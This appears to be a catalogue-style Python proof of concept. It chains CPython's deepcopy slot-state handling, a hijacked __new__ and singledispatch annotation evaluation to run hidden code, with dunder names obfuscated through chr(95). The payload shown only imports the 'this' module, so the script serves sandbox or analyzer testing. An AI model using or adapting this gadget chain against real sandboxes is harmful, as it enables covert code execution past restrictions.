# source: CPython copy._reconstruct (slotstate -> setattr(y, key, value)), object.__getstate__ + copyreg._slotnames reading cls.__slots__ at run time, a __new__ choosing the copy target; functools.singledispatch.register -> typing.get_type_hints evaluating string annotations; trigger: pandas Index.copy(deep=True) -> copy.deepcopy(self.names)
# family: deepcopy protocol setattr-by-runtime-name + annotation eval via register(module function)
# goal: imports the module this
import argparse
import collections
import dataclasses
import functools
import numpy as np
import pandas as pd

u = chr(95) * 2


def payload():
    return u + "import" + u + "(\"this\")"


class Carrier:
    x: payload()
    made = []

    def __new__(cls):
        if cls.made:
            return np.median
        cls.made.append(1)
        return super().__new__(cls)


Carrier.__slots__ = [u + "annotations" + u]
box = Carrier()

idx = pd.Index([1, 2], name=box)
idx.copy(deep=True)


@functools.singledispatch
def f(v):
    return v


try:
    f.register(np.median)
except Exception as e:
    print("register:", type(e).__name__, e)

